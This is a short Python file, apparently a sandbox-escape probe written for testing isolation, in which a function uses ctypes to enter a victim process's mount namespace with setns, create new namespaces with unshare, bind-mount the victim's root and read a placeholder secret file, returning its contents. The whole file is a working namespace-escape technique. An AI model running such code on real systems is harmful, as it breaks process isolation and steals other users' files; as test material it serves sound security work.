# seeks: file
# setns enters the namespace of another process, unshare makes one in which to be root and mount.
import ctypes

import pyarrow as pa


def model(tg):
    libc = ctypes.CDLL(None, use_errno=True)
    said = [libc.setns(libc.open(b"/proc/VICTIM_PID/ns/mnt", 0), 0)]
    libc.mkdir(b"below", 0o700)
    said += [libc.unshare(0x10000000 | 0x00020000), libc.mount(None, b"/", None, 0x44000, None)]
    said += [libc.mount(b"/proc/VICTIM_PID/root", b"below", None, 4096, None)]
    text = ctypes.create_string_buffer(4096)
    for path in (b"below" + b"SECRET_FILE", b"/proc/VICTIM_PID/root" + b"SECRET_FILE", b"SECRET_FILE"):
        libc.read(libc.open(path, 0), text, 4095)
    return pa.table({"got": [f"{said} {text.value.decode()}"]})
